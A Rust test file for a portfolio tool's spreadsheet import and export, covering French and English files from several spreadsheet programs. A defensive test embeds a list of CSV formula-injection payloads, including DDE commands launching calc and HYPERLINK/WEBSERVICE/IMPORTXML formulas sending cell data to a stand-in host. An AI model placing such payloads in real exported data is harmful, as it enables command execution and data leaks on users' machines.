//! Tables as the programs people have write them, in French and English: all of them say the same.
//!
//! The files are byte for byte what these programs write: Excel saving as CSV (old and UTF-8) and as Unicode text,
//! Google Sheets, `LibreOffice` as CSV and as a workbook.

#![expect(
    clippy::unwrap_used,
    reason = "a test that cannot set its stage has failed"
)]

mod guesses;

use std::fs;
use std::path::{Path, PathBuf};

use jiff::civil::date;
use keyfolio::domain::Portfolio;
use keyfolio::domain::history::History;
use keyfolio::exchange::import::{
    Against, Note, Proposal, Remembered, Told, Trouble, What, likely, propose, propose_as, tongues,
};
use keyfolio::i18n::{Lang, Words};
use keyfolio::sheets::{self, Table};
use keyfolio::store::read::read;
use rstest::rstest;

const PORTFOLIO: &str = "\
format: 1
portfolio: {name: Aurora, currency: EUR}
people: [{id: cm, name: Camille Morel}]
criteria:
  attractiveness:
    - {id: innovation, name: Innovation, weight: 1, kind: qualitative}
    - {id: share, name: Share abroad, weight: 1, kind: quantitative, unit: \"%\", worst: 0, best: 100}
accounts:
  - id: helios
    name: Hélios Retail
    status: key
    manager: cm
    effort: 3
    revenue: {2024: 3900000, 2025: 4000000}
    scores: {innovation: {value: 3, note: Seen in March, date: 2026-03-01}}
    scorecard:
      - {id: otif, name: On time in full, unit: \"%\", readings: {2026-09: 93, 2026-10-31: 94.5}}
      - {id: visits, name: Visits}
      - {id: steering, name: Comité de pilotage, readings: {2026-10: {done: 5, of: 6}}}
  - {id: nova, name: Nova Énergie, status: key, budget_month: 3}
  - {id: zen, name: Zenith}
  - {id: zen-2, name: ZENITH Foods}
";

fn portfolio() -> Portfolio {
    read(PORTFOLIO).unwrap()
}

fn tables(file: &str) -> Vec<Table> {
    let path: PathBuf = Path::new("tests/files/sheets").join(file);
    sheets::read(&fs::read(path).unwrap()).unwrap()
}

/// What comes of something done to a table against the portfolio.
fn against<T>(lang: Lang, remembered: &Remembered, done: impl Fn(Against<'_>) -> T) -> T {
    done(Against {
        portfolio: &portfolio(),
        tongues: &tongues(&Words::new(lang)),
        today: date(2026, 11, 23),
        remembered,
    })
}

fn proposal(tables: &[Table], lang: Lang) -> Proposal {
    against(lang, &Remembered::default(), |against| {
        let at = likely(tables, None, against).unwrap();
        propose(&tables[at], against)
    })
}

fn pasted(text: &str) -> Proposal {
    proposal(&[sheets::csv::of_text(text).unwrap()], Lang::Fr)
}

/// Each change as `row account: what: before → after`, in English.
fn changes(proposal: &Proposal) -> Vec<String> {
    let changes = proposal.changes.iter();
    let told = changes.map(|it| {
        let new = if it.new { "+" } else { "" };
        let (account, what) = (&it.account, &it.what);
        format!("{new}{account}|{what}|{}|{}", it.before, it.after)
    });
    told.collect()
}

fn troubles(proposal: &Proposal) -> Vec<(Option<usize>, &Trouble)> {
    let problems = proposal.problems.iter();
    problems.map(|it| (it.row, &it.trouble)).collect()
}

#[rstest]
#[case::excel_french_of_old("excel-fr-1252.csv")]
#[case::excel_french("excel-fr-utf8.csv")]
#[case::excel_french_with_a_title("excel-fr-sep.csv")]
#[case::excel_french_unicode("excel-fr-unicode.txt")]
#[case::excel_american("excel-us.csv")]
#[case::google("google.csv")]
#[case::libreoffice_french("libreoffice-fr.csv")]
#[case::libreoffice_workbook("libreoffice-fr.xlsx")]
fn every_program_is_understood(#[case] file: &str, #[values(Lang::En, Lang::Fr)] lang: Lang) {
    let proposal = proposal(&tables(file), lang);
    assert_eq!(proposal.problems, [], "{proposal:#?}");
    let told = proposal.said(&portfolio(), &Words::new(Lang::En));
    let expected = [
        ("Hélios Retail", 7),
        ("Nova Énergie", 6),
        ("Étoile Rail: new", 2),
    ];
    let found = told.changes.iter();
    let found: Vec<_> = found
        .map(|(it, lines)| (it.as_str(), lines.len()))
        .collect();
    assert_eq!(found, expected);
    check_figures(&proposal);
    assert!(proposal.notes.iter().any(|it| matches!(it, Note::Sums(_))));
}

/// The portfolio once all of it is done as one step, and as it was once that is undone.
fn check_figures(proposal: &Proposal) {
    let (mut after, mut history) = (portfolio(), History::default());
    let done = history.apply_all(&mut after, proposal.label(), proposal.edits.clone());
    assert_eq!((done, history.len()), (Ok(true), 1));
    let helios = after.account(&"helios".into()).unwrap();
    assert_eq!(helios.name, "Hélios Retail");
    assert_eq!(helios.revenue[&2025], 4_210_000.5);
    assert_eq!(helios.margin[&2025], 12.5);
    assert_eq!(
        (helios.share_of_wallet, helios.effort),
        (Some(35.0), Some(6.5))
    );
    assert_eq!(helios.target.due, Some(date(2026, 12, 31)));
    let nova = after.account(&"nova".into()).unwrap();
    assert_eq!(
        nova.name, "Nova Énergie",
        "found by its name, and not renamed"
    );
    assert_eq!(
        (nova.revenue[&2025], nova.margin[&2025]),
        (1_234_567.89, -3.25)
    );
    assert_eq!((nova.share_of_wallet, nova.budget_month), (None, Some(6)));
    assert_eq!(nova.target.due, Some(date(2027, 3, 15)));
    let new = after.account(&"etoile-rail".into()).unwrap();
    assert_eq!(
        (new.name.as_str(), new.revenue[&2025]),
        ("Étoile Rail", 900_000.0)
    );
    history.undo(&mut after);
    assert_eq!(after, portfolio());
}

#[rstest]
#[case::value("Nom\tEffort, jours par mois\nHélios Retail\t4,5", &["Hélios Retail|Effort, jours par mois|3|4,5"])]
#[case::empty_cells_change_nothing("Nom\tEffort, jours par mois\tStatut\nHélios Retail\t\t", &[])]
#[case::same_value("Nom\tEffort, jours par mois\nHélios Retail\t3,0", &[])]
#[case::english_headings_in_french("Account\tStatus\nHelios retail\tcandidate", &["Hélios Retail|Statut|clé|candidat"])]
#[case::by_id("Id\tNom\nhelios\tHélios SA", &["Hélios Retail|Nom|Hélios Retail|Hélios SA"])]
#[case::person_by_name("Nom\tResponsable\nNova Énergie\tcamille MOREL", &["Nova Énergie|Responsable||Camille Morel"])]
#[case::person_of_no_list("Nom\tSponsor\nNova Énergie\tJean Petit", &["Nova Énergie|Sponsor||Jean Petit"])]
#[case::in_thousands("Client\tCA 2025 (k€)\nHélios Retail\t4 210", &["Hélios Retail|CA 2025|4\u{202f}000\u{202f}000|4\u{202f}210\u{202f}000"])]
#[case::a_year_alone("Client\t2026\nHélios Retail\t5000", &["Hélios Retail|CA 2026||5000"])]
#[case::score("Nom\tInnovation\nHélios Retail\t4", &["Hélios Retail|Note\u{202f}: Innovation|3|4"])]
#[case::share("Nom\tNote : Share abroad (%)\nHélios Retail\t12,5 %", &["Hélios Retail|Note\u{202f}: Share abroad (%)||12,5"])]
#[case::computed("Nom\tAttractivité\nHélios Retail\t5", &[])]
#[case::unknown("Nom\tHumeur\nHélios Retail\tbonne", &[])]
#[case::month("Nom\tMois du budget\nNova Énergie\tSept", &["Nova Énergie|Mois du budget|mars|septembre"])]
#[case::new_account("Nom\tStatut\nÉlan & Fils\tincubateur", &["+Élan & Fils|||", "+Élan & Fils|Statut|candidat|incubateur"])]
fn a_pasted_range_would_change(#[case] text: &str, #[case] expected: &[&str]) {
    let proposal = pasted(text);
    assert_eq!(proposal.problems, []);
    assert_eq!(changes(&proposal), expected);
}

#[test]
fn a_score_keeps_what_speaks_for_it_and_is_given_today() {
    let proposal = pasted("Nom\tInnovation\nHélios Retail\t5");
    let mut after = portfolio();
    for edit in proposal.edits {
        after.apply(edit).unwrap();
    }
    let account = after.account(&"helios".into()).unwrap();
    let score = &account.scores.values().next().unwrap();
    assert_eq!(
        (score.value, score.note.as_deref()),
        (5.0, Some("Seen in March"))
    );
    assert_eq!(score.date, Some(date(2026, 11, 23)));
}

#[rstest]
#[case::twice(
    "Nom\tEffort\nZenith\t1\nHélios Retail\t1\nZENITH\t2",
    4,
    "la même chose qu’à la ligne 2"
)]
#[case::new_twice(
    "Nom\tEffort\nKestrel\t1\nKESTREL\t2",
    3,
    "la même chose qu’à la ligne 2"
)]
#[case::nobody("Nom\tEffort\n\t1", 2, "ne nomme aucun compte")]
#[case::id_of_nobody("Id\tEffort\nkestrel\t1", 2, "il n’y a pas de compte kestrel")]
#[case::one_column_sorted("Id\tNom\nhelios\tZenith", 2, "seule colonne a-t-elle été triée")]
#[case::word_for_a_figure(
    "Nom\tEffort\nZenith\tbeaucoup",
    2,
    "colonne B (Effort)\u{202f}: «\u{202f}beaucoup\u{202f}»\u{202f}: un nombre est attendu"
)]
#[case::out_of_range("Nom\tEffort\nZenith\t45", 2, "31")]
#[case::off_the_scale("Nom\tInnovation\nZenith\t9", 2, "9")]
#[case::share_for_an_amount("Nom\tCA 2025\nZenith\t12 %", 2, "est une part")]
#[case::unknown_word("Nom\tStatut\nZenith\tvip", 2, "clé, incubateur, candidat, ancien")]
#[case::no_day("Nom\tCible pour le\nZenith\tbientôt", 2, "un jour est attendu")]
#[case::error_of_the_sheet("Nom\tEffort\nZenith\t#N/A", 2, "pas pu le calculer")]
#[case::both_marks(
    "Nom\tEffort\nZenith\t1,5\nHélios Retail\t1.5\nNova Énergie\t1,234",
    4,
    "virgule"
)]
#[case::long_code("Nom\tCode\nZenith\tZENITH", 2, "deux")]
fn what_is_wrong_is_told_with_its_place(
    #[case] text: &str,
    #[case] row: usize,
    #[case] says: &str,
) {
    let proposal = pasted(text);
    let rows: Vec<_> = proposal.problems.iter().map(|it| it.row).collect();
    assert_eq!(rows, [Some(row)], "{:#?}", proposal.problems);
    let said = proposal.said(&portfolio(), &Words::new(Lang::Fr));
    let told = &said.problems[0];
    assert!(told.contains(says), "{told}");
    assert!(told.starts_with(&format!("ligne {row}")), "{told}");
    let of_row = |it: &keyfolio::exchange::import::Change| it.row == row;
    assert!(
        !proposal.changes.iter().any(of_row),
        "nothing of a row that is wrong"
    );
}

#[test]
fn a_row_with_a_problem_brings_nothing_of_it() {
    let proposal = pasted("Nom\tEffort\tStatut\nKestrel\t4\tvip\nZenith\t2\tclé");
    let told = changes(&proposal);
    assert_eq!(
        told,
        [
            "Zenith|Effort, jours par mois||2",
            "Zenith|Statut|candidat|clé"
        ]
    );
    assert!(!proposal.is_clean() && !proposal.is_hopeless());
}

#[test]
fn a_name_that_could_be_two_is_a_problem_and_the_name_as_written_is_not() {
    let twins = PORTFOLIO.replace("ZENITH Foods", "ZENITH");
    let portfolio = read(&twins).unwrap();
    let table = sheets::csv::of_text("Name,Effort\nzenith,1\nZENITH,2\n").unwrap();
    let proposal = propose_as(
        What::Accounts,
        &table,
        Against {
            portfolio: &portfolio,
            tongues: &tongues(&Words::new(Lang::En)),
            today: date(2026, 11, 23),
            remembered: &Remembered::default(),
        },
    );
    let ids = vec!["zen".into(), "zen-2".into()];
    assert_eq!(
        troubles(&proposal),
        [(Some(2), &Trouble::SeveralAccounts(ids))]
    );
    assert_eq!(proposal.changes[0].account, "ZENITH");
}

#[rstest]
#[case::no_heading("Zenith\t4\nNova\t5", &Trouble::NoSubject)]
#[case::nothing("", &Trouble::NoRows)]
#[case::heading_alone("Nom\tEffort", &Trouble::NoRows)]
#[case::one_thing_twice("Nom\tCA 2025\t2025\nZenith\t1\t2", &Trouble::SameColumn(1))]
fn a_table_that_cannot_be_read_brings_nothing(#[case] text: &str, #[case] trouble: &Trouble) {
    let proposal = pasted(text);
    assert_eq!(troubles(&proposal), [(None, trouble)]);
    assert!(proposal.is_hopeless() && proposal.edits.is_empty());
}

#[test]
fn what_a_heading_stands_for_is_remembered() {
    let table = sheets::csv::of_text("Kunde;Umsatz 25;Effort\nZenith;7,5;9\n").unwrap();
    let mut remembered = Remembered::default();
    for (heading, id) in [
        ("KUNDE", "name"),
        ("umsatz 25", "revenue 2025"),
        ("Effort", ""),
    ] {
        remembered.learn(&Told::Heading {
            what: What::Accounts,
            heading: heading.to_owned(),
            id: id.to_owned(),
        });
    }
    let proposal = against(Lang::En, &remembered, |it| propose(&table, it));
    assert_eq!(changes(&proposal), ["Zenith|Revenue 2025||7.5"]);
}

#[rstest]
#[case::long("Compte\tIndicateur\tDate\tValeur\nHélios Retail\tOn time in full\t30/11/2026\t96,5 %",
    &["Hélios Retail|On time in full, 30/11/2026||96,5"])]
#[case::by_ids("Account id\tIndicator id\tDate\tValue\nhelios\totif\t2026-11\t96", &["Hélios Retail|On time in full, 30/11/2026||96"])]
#[case::corrected("Compte\tIndicateur\tDate\tValeur\nhelios\totif\t31/10/2026\t95", &["Hélios Retail|On time in full, 31/10/2026|94,5|95"])]
#[case::same("Compte\tIndicateur\tDate\tValeur\nhelios\totif\t30/09/2026\t93", &[])]
#[case::held("Compte\tIndicateur\tDate\tValeur\nhelios\tcomite de PILOTAGE\t30/11/2026\t6 sur 6",
    &["Hélios Retail|Comité de pilotage, 30/11/2026||6 sur 6"])]
#[case::wide("Compte\tIndicateur\t2026-09\t10/2026\t30/11/2026\nhelios\totif\t93\t95\t96",
    &["Hélios Retail|On time in full, 31/10/2026|94,5|95", "Hélios Retail|On time in full, 30/11/2026||96"])]
#[case::nothing_read("Compte\tIndicateur\tDate\tValeur\nhelios\totif\t\t", &[])]
fn readings_come_in_bulk(#[case] text: &str, #[case] expected: &[&str]) {
    let proposal = pasted(text);
    assert_eq!(proposal.problems, []);
    assert_eq!(
        (proposal.what, &changes(&proposal)[..]),
        (
            What::Readings,
            &expected.iter().map(ToString::to_string).collect::<Vec<_>>()[..]
        )
    );
    assert!(proposal.edits.len() <= 1, "all readings are one edit");
}

#[rstest]
#[case::no_such_indicator("helios\tNPS\t30/11/2026\t1", &Trouble::NoSuchIndicator("NPS".into()))]
#[case::no_such_account("Kestrel\totif\t30/11/2026\t1", &Trouble::NoSuchAccount("Kestrel".into()))]
#[case::no_day("helios\totif\t\t1", &Trouble::NoDay)]
#[case::no_indicator("helios\t\t30/11/2026\t1", &Trouble::NoIndicatorNamed)]
fn a_reading_that_cannot_be_is_told(#[case] row: &str, #[case] trouble: &Trouble) {
    let proposal = pasted(&format!("Compte\tIndicateur\tDate\tValeur\n{row}"));
    assert_eq!(troubles(&proposal), [(Some(2), trouble)]);
}

#[test]
fn what_has_no_heading_is_told() {
    let proposal = pasted("Nom\t\tEffort\t\nZenith\tbon\t2\t");
    let said = proposal.said(&portfolio(), &Words::new(Lang::En)).columns;
    assert_eq!(
        said,
        [
            "A  Nom → Name",
            "B  has no heading, left out",
            "C  Effort → Effort, days a month"
        ]
    );
    assert_eq!(changes(&proposal).len(), 1);
}

/// The first reading says what kind an indicator takes, also one of the same table.
#[test]
fn figures_and_parts_of_a_whole_do_not_mix_within_a_table() {
    let rows = "helios\tvisits\t30/09/2026\t5 sur 6\nhelios\tvisits\t31/10/2026\t7";
    let proposal = pasted(&format!("Compte\tIndicateur\tDate\tValeur\n{rows}"));
    assert_eq!(proposal.changes.len(), 1);
    assert_eq!(proposal.problems[0].row, Some(3));
    assert!(matches!(proposal.problems[0].trouble, Trouble::Refused(_)));
    let mut after = portfolio();
    assert!(
        proposal
            .edits
            .into_iter()
            .all(|edit| after.apply(edit).is_ok())
    );
}

#[test]
fn months_that_a_spreadsheet_made_days_of_are_months_again() {
    use keyfolio::sheets::Cell;
    let day = |month| Cell::Date(date(2026, month, 1));
    let mut table = Table::default();
    table.push(vec![
        Cell::text("Account"),
        Cell::text("Indicator"),
        day(9),
        day(11),
    ]);
    let figures = [Cell::Number(93.0), Cell::Number(96.0)];
    table.push(
        [
            vec![Cell::text("helios"), Cell::text("otif")],
            figures.to_vec(),
        ]
        .concat(),
    );
    let proposal = proposal(&[table], Lang::En);
    assert_eq!(
        changes(&proposal),
        ["Hélios Retail|On time in full, 2026-11-30||96"]
    );
}

/// What has been tried on spreadsheets.
const PAYLOADS: [&str; 24] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example?leak=\"&A1,\"Click\")",
    "=WEBSERVICE(\"http://x.example\")",
    "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{a0}=1+1",
    "\"=1+1",
    "\"\"=1+1\"",
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "x;=1+1;y",
    "x,=1+1,y",
    "x\";=1+1;\"y",
    "x\r\n=1+1",
    "x|@SUM(1)",
];

fn armed_portfolio(payload: &str) -> Portfolio {
    let text = format!("{payload:?}").replace("\\u{a0}", "\u{a0}");
    let yaml = format!(
        "\
format: 1
portfolio: {{name: Aurora}}
criteria: {{strength: [{{id: c, name: {text}, weight: 1, kind: qualitative}}]}}
accounts:
  - id: one
    name: {text}
    sector: {text}
    manager: {text}
    revenue: {{2025: -3}}
    scores: {{c: 4}}
    scorecard: [{{id: i, name: {text}, unit: {text}, readings: {{2026-10-31: -4}}}}]
    requirements: [{{id: r, title: {text}, object: {text}}}]
"
    );
    read(&yaml).unwrap()
}

/// Whether a spreadsheet would take a cell for a formula: said here once more, and not as the program says it.
fn would_run(cell: &str) -> bool {
    let cell = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\u{feff}');
    let is_number = cell.replace(',', ".").parse::<f64>().is_ok();
    cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number
}

#[rstest]
#[case::accounts(keyfolio::exchange::export::accounts)]
#[case::scorecards(keyfolio::exchange::export::scorecards)]
#[case::requirements(keyfolio::exchange::export::requirements)]
fn nothing_that_goes_out_runs(
    #[case] what: fn(&keyfolio::i18n::Basis<'_>) -> Table,
    #[values(Lang::En, Lang::Fr)] lang: Lang,
) {
    for payload in PAYLOADS {
        let portfolio = armed_portfolio(payload);
        let table = out(&portfolio, lang, what);
        let words = Words::new(lang);
        let dialect = keyfolio::exchange::dialect(&words);
        let written = sheets::csv::write(&table, dialect).unwrap();
        let mut cells = 0;
        for separator in [dialect.separator, b';', b',', b'\t', b'|'] {
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(separator)
                .has_headers(false)
                .flexible(true)
                .from_reader(&written[..]);
            for cell in reader
                .records()
                .flat_map(|it| it.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            {
                cells += 1;
                assert!(
                    !would_run(&cell),
                    "{payload:?} split at {separator}: {cell:?}"
                );
                let lines = cell.split(['\n', '\r']);
                assert!(!lines.into_iter().any(would_run), "{payload:?}: {cell:?}");
            }
        }
        assert!(cells > 20);
    }
}

fn out(portfolio: &Portfolio, lang: Lang, what: fn(&keyfolio::i18n::Basis<'_>) -> Table) -> Table {
    let today = date(2026, 11, 23);
    what(&keyfolio::i18n::Basis {
        portfolio,
        figures: &keyfolio::domain::figures::Figures::of(portfolio, today),
        words: &Words::new(lang),
        today,
    })
}

/// What is in front of such a text on its way out is gone once it is back, and figures were never touched.
#[rstest]
fn what_was_disarmed_comes_back(
    #[values(Lang::En, Lang::Fr)] lang: Lang,
    #[values(false, true)] workbook: bool,
) {
    for payload in PAYLOADS {
        let portfolio = armed_portfolio(payload);
        let table = out(&portfolio, lang, keyfolio::exchange::export::accounts);
        let words = Words::new(lang);
        let bytes = if workbook {
            sheets::xlsx::write(&[table])
        } else {
            sheets::csv::write(&table, keyfolio::exchange::dialect(&words))
        };
        let tables = sheets::read(&bytes.unwrap()).unwrap();
        let proposal = propose_as(
            What::Accounts,
            &tables[0],
            Against {
                portfolio: &portfolio,
                tongues: &tongues(&words),
                today: date(2026, 11, 23),
                remembered: &Remembered::default(),
            },
        );
        assert_eq!(proposal.problems, [], "{payload:?}");
        assert_eq!(proposal.changes, [], "{payload:?}");
        let revenue = proposal
            .mapping
            .iter()
            .find(|it| it.heading.contains("2025"));
        let column = revenue.unwrap().column;
        let figure = tables[0].rows[1].cell(column);
        let expected = [sheets::Cell::text("-3"), sheets::Cell::Number(-3.0)];
        assert!(expected.contains(figure), "{figure:?}");
    }
}

/// A workbook read by itself, not by way of our own reader.
#[test]
fn a_workbook_holds_figures_days_and_words() {
    use calamine::{Data, DataType as _, Reader as _, Xlsx};
    let example = read(include_str!("../../portfolio.example.yaml")).unwrap();
    let table = out(&example, Lang::Fr, keyfolio::exchange::export::accounts);
    let bytes = sheets::xlsx::write(&[table]).unwrap();
    let mut workbook: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let range = workbook.worksheet_range("Comptes").unwrap();
    let heading: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(ToString::to_string)
        .collect();
    let at = |name: &str| {
        let column = heading.iter().position(|it| it == name).unwrap();
        range.get((1, column)).unwrap()
    };
    assert_eq!(at("Nom"), &Data::String("Helios Retail".into()));
    assert_eq!(at("CA 2025"), &Data::Float(4_210_000.0));
    assert_eq!(at("Marge 2025, %"), &Data::Float(17.9));
    let due = at("Cible pour le").get_datetime().unwrap();
    assert_eq!(due.to_ymd_hms_milli(), (2027, 12, 31, 0, 0, 0, 0));
    assert_eq!((range.height(), range.width()), (21, heading.len()));
}
